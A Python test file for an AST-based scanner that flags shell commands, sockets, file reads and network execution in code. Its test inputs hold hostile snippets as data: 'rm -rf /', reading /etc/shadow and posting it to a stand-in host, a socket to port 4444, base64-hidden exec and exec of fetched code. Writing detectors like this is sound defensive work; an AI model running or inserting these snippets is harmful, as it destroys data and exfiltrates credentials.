"""The ast-based scan of python code."""

from __future__ import annotations

from hazmat.policy.pyscan import scan_python


def test_subprocess_and_os_commands_are_extracted() -> None:
    f = scan_python(
        "import subprocess as sp, os\nfrom os import system as s\n"
        "sp.run(['rm', '-rf', '/'])\nos.popen('id')\ns('whoami')\n"
    )
    assert "rm -rf /" in f.shell
    assert "id" in f.shell and "whoami" in f.shell
    assert {"subprocess", "os"} <= f.imports


def test_sockets_files_and_urls() -> None:
    f = scan_python(
        "import socket, requests\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
        "data = open('/etc/shadow').read()\nrequests.post('https://x.example/u', data=data)\n"
        "open('/tmp/out', 'w').write(data)\n"
    )
    assert f.socket and "10.0.0.1:4444" in f.connects
    assert ("/etc/shadow", "r") in f.opened and ("/tmp/out", "w") in f.opened
    assert "https://x.example/u" in f.connects
    assert f.network


def test_decoded_payloads_are_scanned_again() -> None:
    f = scan_python("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))")
    assert "id" in f.shell


def test_exec_of_network_data() -> None:
    f = scan_python("import urllib.request\nexec(urllib.request.urlopen('http://x/p').read())")
    assert f.network_exec


def test_syntax_errors_are_reported_not_raised() -> None:
    f = scan_python("def (:")
    assert f.error.startswith("SyntaxError")
